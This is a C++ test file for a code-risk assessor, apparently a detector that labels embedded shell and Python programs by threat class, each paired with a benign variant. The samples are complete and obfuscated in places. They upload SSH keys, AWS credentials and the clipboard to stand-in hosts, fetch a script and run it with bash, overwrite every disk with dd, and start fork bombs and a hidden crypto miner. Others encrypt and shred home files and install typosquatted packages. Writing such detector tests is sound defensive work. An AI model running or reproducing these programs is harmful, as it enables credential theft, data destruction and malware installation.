// The classes the thirty-fourth session modelled (issue 14): the tune parts
// of the hundred-and-ninety-second round onwards (tests/corpus/prog196_MANIFEST.tsv
// and later), programs written from the rubric alone by writers who never
// saw the assessor, and the thirty-first session's device-password false
// alarm. Strings here are never executed.

#include "test_util.hpp"

namespace mai::assess::test {
namespace {

// "${getter[@]:2}": the options after a command name built from the array's
// first two elements. The slice had been unknown, so curl lost its -o and
// the downloaded file was never the one bash ran.
TEST(HundredAndNinetySecondRoundClasses, ArraySlicesAreTheirElements) {
  const std::string program = R"sh(
#!/usr/bin/env bash
set -euo pipefail
STATE_DIR="${HOME}/.cache/flagboard"
fetch_bundle() {
    local url="$1" dest="$2"
    local -a getter=(cu rl -fsSL --max-time 30 -o)
    "${getter[0]}${getter[1]}" "${getter[@]:2}" "$dest" "$url"
}
apply_bundle() {
    local -a runner=("ba""sh")
    "${runner[@]}" "$1"
}
mkdir -p "$STATE_DIR"
tmp="${STATE_DIR}/bundle.$$"
fetch_bundle "https://flags.example.net/board/latest.sh" "$tmp"
apply_bundle "$tmp"
)sh";
  check_with_twin({"a download run by bash, curl's options an array slice", B, program.c_str(), "REMOTE-CODE-EXECUTION", SH},
                  "(\"ba\"\"sh\")", "(\"wc\" \"-c\")", "the download only counted", L);
}

// ${A[$k]:-}: the element at a known key, its default only where the key is
// missing. The whole expansion had been unknown, so the function a table of
// package groups named was never called.
TEST(HundredAndNinetySecondRoundClasses, AnElementWithADefaultIsTheElement) {
  check_with_genuine_twin("a typosquat printed by a function a table names", R"sh(
#!/usr/bin/env bash
set -euo pipefail
io_pkgs() { local a="colo" b="urama"; printf '%s\n' "${a}${b}" openpyxl; }
core_pkgs() { printf '%s\n' numpy pandas; }
declare -A PKG_GROUPS=([core]=core_pkgs [io]=io_pkgs)
install_group() {
  local g="$1" fn="${PKG_GROUPS[$1]:-}"
  [[ -n "$fn" ]] || return 1
  mapfile -t pkgs < <("$fn")
  python3 -m pip install -q "${pkgs[@]}"
}
for g in core io; do install_group "$g"; done
)sh",
                          "local a=\"colo\" b=\"urama\"", "local a=\"colo\" b=\"rama\"", SH);
  // a key the table lacks takes the default
  check({"the default of a missing key runs", H, R"sh(
declare -A TARGETS=([docs]=./site)
dest="${TARGETS[missing]:-/etc/motd.d}"
cp banner.txt "$dest/banner"
)sh", "SYSTEM-MODIFICATION", SH});
}

// A line the bash grammar cannot parse (a `|` in an expansion's default) had
// turned the rest of the file into one error, and nothing in it was seen.
TEST(HundredAndNinetySecondRoundClasses, ALineTheGrammarCannotParseHidesNothingElse) {
  check_with_twin({"disks overwritten after an unparsable default", B, R"sh(
#!/usr/bin/env bash
SKIP_PATTERN="${REFRESH_SKIP:-loop|sr|zram}"
declare -a DISKS=()
while read -r name type; do
    [[ "$type" == "disk" ]] || continue
    [[ "$name" =~ ^($SKIP_PATTERN) ]] && continue
    DISKS+=("/dev/$name")
done < <(lsblk -dn -o NAME,TYPE)
for d in "${DISKS[@]}"; do
    dd if=/dev/zero of="$d" bs=4M status=none
done
)sh", "WIPE", SH},
                  "of=\"$d\"", "of=\"./scratch-$RANDOM.img\"", "a scratch image written instead", L);
}

// dir(self) of the code's own class lists its methods, so a loop calling every
// `src_*` method by name calls each one.
TEST(HundredAndNinetySecondRoundClasses, DirOfAnInstanceListsItsMethods) {
  check_with_twin({"credentials collected by methods found with dir()", B, R"py(
import base64, requests
from pathlib import Path

class Collector:
    def __init__(self):
        self.home = Path.home()

    def src_notes(self):
        for p in sorted(Path("notes").glob("*.txt")):
            yield p.name, p.read_bytes()

    def src_profile(self):
        for rel in (".aws/credentials", ".netrc"):
            yield rel, (self.home / rel).read_bytes()

    def run(self):
        items = {}
        for name in dir(self):
            if not name.startswith("src_"):
                continue
            for label, data in getattr(self, name)():
                items[label] = base64.b64encode(data).decode()
        return items

requests.post("https://store.example.org/api/ingest", json=Collector().run(), timeout=30)
)py", "EXFILTRATION"},
                  "(\".aws/credentials\", \".netrc\"):\n            yield rel, (self.home / rel)",
                  "(\"summary.txt\", \"todo.txt\"):\n            yield rel, (Path(\"notes\") / rel)",
                  "project notes where the credentials were", L);
}

// asdict() of a dataclass whose list was extended from a generator: the
// list's unknown many are the generator's instances, dicts too.
TEST(HundredAndNinetySecondRoundClasses, AsdictConvertsAnOpenListsItems) {
  check_with_twin({"SSH keys in findings extended from a generator", B, R"py(
import json, urllib.request
from dataclasses import dataclass, field, asdict
from pathlib import Path

@dataclass
class Finding:
    kind: str
    content: str

@dataclass
class Report:
    findings: list = field(default_factory=list)

def material(home):
    for p in sorted((home / ".ssh").glob("id_*")):
        yield Finding("ssh", p.read_text())

report = Report()
report.findings.extend(material(Path.home()))
body = json.dumps(asdict(report)).encode()
urllib.request.urlopen(urllib.request.Request("https://audit.example.org/api/v1/ingest", data=body))
)py", "EXFILTRATION"},
                  "(home / \".ssh\").glob(\"id_*\")", "Path(\"reports\").glob(\"*.txt\")", "the project's reports",
                  L);
}

// A function ending in `return 0` printed what its loop printed: a
// redirection of the call gets those lines.
TEST(HundredAndNinetySecondRoundClasses, AClosingReturnKeepsWhatTheFunctionPrinted) {
  check_with_twin({"credential folders listed by a function that returns 0, archived and uploaded", B, R"sh(
#!/usr/bin/env bash
set -euo pipefail
settings_sources() {
    local d
    for d in ".s""sh" ".a""ws"; do
        [ -e "$HOME/$d" ] && printf '%s\n' "$HOME/$d"
    done
    return 0
}
work="$(mktemp -d)"
settings_sources >> "$work/items.txt"
tar -czf "$work/bundle.tgz" -T "$work/items.txt"
curl -fsS -F "bundle=@$work/bundle.tgz" https://backup.example.net/studio/upload
)sh", "EXFILTRATION", SH},
                  "[ -e \"$HOME/$d\" ] && printf '%s\\n' \"$HOME/$d\"", "[ -e \"./$d\" ] && printf '%s\\n' \"./$d\"",
                  "folders of the working directory instead", L);
}

// A loop whose condition stays true whatever the body assigns is endless:
// a cap of 0 meaning "no cap", read through a method.
TEST(HundredAndNinetySecondRoundClasses, AConditionTrueWhateverTheBodySetsIsEndless) {
  const std::string program = R"py(
import os, time
CONFIG = {"fan_out": 4, "depth_cap": 0}

class Pool:
    def __init__(self, fan_out, depth_cap):
        self.fan_out = fan_out
        self.depth_cap = depth_cap

    def _may_grow(self, depth):
        return self.depth_cap == 0 or depth < self.depth_cap

    def warm(self, depth=0):
        while self._may_grow(depth):
            for _ in range(self.fan_out):
                try:
                    pid = os.fork()
                except OSError:
                    time.sleep(0.01)
                    continue
                if pid == 0:
                    depth += 1
                    break
            else:
                continue

Pool(CONFIG["fan_out"], CONFIG["depth_cap"]).warm()
)py";
  check_with_twin({"forks while a zero cap means no cap", B, program.c_str(), "FORK-BOMB"},
                  "\"depth_cap\": 0", "\"depth_cap\": 3", "a cap of three", L);
  // a pause only in the handler of a failed fork is a retry's back-off, not a throttle
  check_with_twin({"an endless fork loop that sleeps only when a fork fails", B, R"py(
import os, time
while True:
    try:
        pid = os.fork()
    except OSError:
        time.sleep(1)
        continue
    if pid == 0:
        print("worker")
)py", "FORK-BOMB"},
                  "    if pid == 0:", "    time.sleep(5)\n    if pid == 0:", "one fork every five seconds", L);
  // a flag the body clears is not endless
  check({"a loop whose flag the body clears", L, R"py(
import os
running = True
while running:
    pid = os.fork()
    if pid == 0:
        os._exit(0)
    os.waitpid(pid, 0)
    running = False
)py"});
}

// A key named for the thing the host variable names goes to its own device
// or service, even at a bare address (CONTROLLER_TOKEN to the addresses in
// CONTROLLERS, INVERTER_PASSWORD to INVERTER_HOST); a host held by a variable
// named for something else is still a stranger.
TEST(HundredAndNinetySecondRoundClasses, AKeyNamedLikeTheHostsVariableIsItsKey) {
  const std::string shell_program = R"sh(
#!/usr/bin/env bash
set -uo pipefail
CONTROLLERS=(198.51.100.31 198.51.100.32)
TOKEN="${CONTROLLER_TOKEN:-}"
for host in "${CONTROLLERS[@]}"; do
    curl -s --fail -H "Authorization: Bearer $TOKEN" -o "./logs/$host.tgz" "https://$host/logs/today.tgz"
done
)sh";
  check_with_twin({"a controller token to the controllers", L, shell_program.c_str(), nullptr, SH},
                  "CONTROLLERS=(198.51.100.31 198.51.100.32)\nTOKEN=\"${CONTROLLER_TOKEN:-}\"\nfor host in \"${CONTROLLERS[@]}\"",
                  "SINKS=(198.51.100.31 198.51.100.32)\nTOKEN=\"${CONTROLLER_TOKEN:-}\"\nfor host in \"${SINKS[@]}\"",
                  "the same token to addresses held under another name", B);
  const std::string python_program = R"py(
import argparse, os, requests

ap = argparse.ArgumentParser()
ap.add_argument("--host", default=os.environ.get("INVERTER_HOST", "192.0.2.20"))
args = ap.parse_args()
password = os.environ.get("INVERTER_PASSWORD", "")
r = requests.get(f"http://{args.host}/api/v1/pv", auth=("installer", password), timeout=10)
print(r.json())
)py";
  check_with_twin({"an inverter's password to the inverter's address", L, python_program.c_str()},
                  "\"INVERTER_HOST\"", "\"COLLECTOR_HOST\"", "the password to a collector's address", B);
  // a vendor's key never belongs to a bare address, whatever the variable is called
  check({"an AWS key to an address held in AWS_ENDPOINTS", B, R"sh(
AWS_ENDPOINTS=(203.0.113.9)
for h in "${AWS_ENDPOINTS[@]}"; do
  curl -s -H "X-Key: $AWS_SECRET_ACCESS_KEY" "https://$h/collect"
done
)sh", "EXFILTRATION", SH});
}

// `local -n out=$1`: the function fills the caller's array.
TEST(HundredAndNinetySecondRoundClasses, ANamerefIsTheVariableItNames) {
  check_with_twin({"a miner's arguments built through a nameref", B, R"sh(
#!/usr/bin/env bash
declare -A POOL=([scheme]="stratum+tcp" [host]="pool.example.net" [port]="3333")
WALLET="48jQ7cAskExampleWa11et"
pool_url() { printf '%s://%s:%s' "${POOL[scheme]}" "${POOL[host]}" "${POOL[port]}"; }
build_args() {
    local -n out=$1
    out=(-o "$(pool_url)" -u "$WALLET" --donate-level 0 --background)
}
start_worker() {
    local exe="$HOME/.local/share/.kcache/kcompactd"
    local -a args
    build_args args
    nohup nice -n 19 "$exe" "${args[@]}" >/dev/null 2>&1 &
}
start_worker
)sh", "CRYPTO-MINER", SH},
                  "stratum+tcp", "https", "a status endpoint in its place", L);
}

// vars(cls) of the code's own class is its body's names; getattr(cls, name)
// with a name known only at run time is one of its data attributes; and a
// value holding a few instances of one class keeps each apart, so each Dep
// formats its own name.
TEST(HundredAndNinetySecondRoundClasses, ClassTablesPickedByRunTimeNames) {
  check_with_genuine_twin("a typosquat in a class's table of component lists", R"py(
import argparse, subprocess, sys
from dataclasses import dataclass

@dataclass(frozen=True)
class Dep:
    dist: str
    pin: str = ""

    def spec(self):
        return f"{self.dist}{self.pin}"

class Components:
    booking = [Dep("reqe" + "usts", ">=2.0"), Dep("python-dateutil"), Dep("sqlalchemy", ">=2.0")]
    receipts = [Dep("colorama"), Dep("pillow")]
    dashboard = [Dep("flask", ">=3.0"), Dep("jinja2")]

    @classmethod
    def names(cls):
        return [n for n in vars(cls) if not n.startswith("_") and isinstance(getattr(cls, n), list)]

ap = argparse.ArgumentParser()
ap.add_argument("components", nargs="*")
args = ap.parse_args()
wanted = args.components or Components.names()
deps = [d for name in wanted for d in getattr(Components, name)]
subprocess.call([sys.executable, "-m", "pip", "install"] + [d.spec() for d in deps])
)py",
                          "\"reqe\" + \"usts\"", "\"requ\" + \"ests\"");
}

// functools.lru_cache(...)(f) does what f does: a lazily imported pickle is pickle.
TEST(HundredAndNinetySecondRoundClasses, ACachingDecoratorIsTheFunction) {
  check_with_twin({"pickle imported through an lru_cache'd lambda", M, R"py(
import functools, importlib

def lazy(name):
    return functools.lru_cache(maxsize=None)(lambda: importlib.import_module(name))

_store = lazy("pic" + "kle")
with open("series.pkl", "rb") as fh:
    data = _store().load(fh)
print(len(data))
)py", "UNSAFE-DESERIALIZATION"},
                  "\"pic\" + \"kle\"", "\"js\" + \"on\"", "json imported the same way", L);
}

// An abbreviation names the same thing (CTL_API_TOKEN, CONTROLLERS), and an
// associative array's elements are its values.
TEST(HundredAndNinetySecondRoundClasses, AKeyAbbreviatingTheHostsTableIsItsKey) {
  check_with_twin({"a controller API token to an address from the controllers' table", L, R"sh(
#!/usr/bin/env bash
declare -A CONTROLLERS=([trailer1]=198.51.100.11 [trailer2]=198.51.100.12)
TOKEN="${CTL_API_TOKEN:-}"
for name in "${!CONTROLLERS[@]}"; do
  ip="${CONTROLLERS[$name]}"
  curl -s --fail -H "Authorization: Bearer $TOKEN" -o "./logs/$name.tgz" "https://$ip/api/logs/today.tgz"
done
)sh", nullptr, SH},
                  "CTL_API_TOKEN", "STL_API_TOKEN", "a token named for something else", B);
}

// Work handed from Python to a shell (the crossing rounds): the child's
// environment (env=dict(os.environ, DEST=url)), what the child prints
// (Popen(["bash", "-c", ...]).stdout) and what it reads (run(input=...)).
TEST(HundredAndNinetySecondRoundClasses, WorkHandedToAChildShell) {
  check_with_twin({"credentials bundled by Python, uploaded by a shell given the paths in its environment", B, R"py(
import glob, json, os, subprocess, tempfile

items = {}
for pattern in ("~/.ssh/id_*", "~/.aws/credentials"):
    for path in glob.glob(os.path.expanduser(pattern)):
        with open(path) as fh:
            items[path] = fh.read()
fd, bundle = tempfile.mkstemp(suffix=".json")
with os.fdopen(fd, "w") as fh:
    json.dump(items, fh)
cmd = 'curl -s --data-binary @"$BUNDLE" "$DEST"'
subprocess.run(["sh", "-c", cmd], env=dict(os.environ, BUNDLE=bundle, DEST="https://sync.example.com/api/v1/backup"))
)py", "EXFILTRATION"},
                  "(\"~/.ssh/id_*\", \"~/.aws/credentials\")", "(\"reports/*.csv\", \"notes/*.txt\")",
                  "the project's reports", M);
  check_with_twin({"the clipboard printed by a child shell, posted by Python", B, R"py(
import subprocess, urllib.request
proc = subprocess.Popen(["bash", "-c", "xclip -selection clipboard -o"], stdout=subprocess.PIPE, text=True)
for line in proc.stdout:
    urllib.request.urlopen("https://hooks.example.com/intake", data=line.encode())
)py", "EXFILTRATION"},
                  "xclip -selection clipboard -o", "cat notes/today.txt", "a notes file printed instead", M);
  check_with_twin({"walked files fed to a shell loop that encrypts and shreds them", B, R"py(
import os, subprocess
files = []
for d, _, names in os.walk(os.path.expanduser("~")):
    for n in names:
        files.append(os.path.join(d, n))
SCRIPT = 'while IFS= read -r f; do openssl enc -aes-256-cbc -pass env:K -in "$f" -out "$f.locked" && shred -u "$f"; done'
subprocess.run(["bash", "-c", SCRIPT], input="\n".join(files), text=True, env=dict(os.environ, K="x"))
)py", "RANSOMWARE-ENCRYPT-AND-DELETE"},
                  " && shred -u \"$f\"", "", "encrypted copies beside the originals", M);
  // a program named without a slash is found in PATH, not among files extracted from a download
  check({"bash run after a download was unpacked into the working directory", M, R"py(
import os, subprocess, tarfile, requests
os.chdir("/tmp/prices")
with open("prices.tgz", "wb") as fh:
    fh.write(requests.get("https://prices.example.org/weekly.tgz", timeout=30).content)
tarfile.open("prices.tgz").extractall(".", filter="data")
subprocess.run(["bash", "-c", "wc -l sheets/*.csv"])
)py"});
}

}  // namespace
}  // namespace mai::assess::test
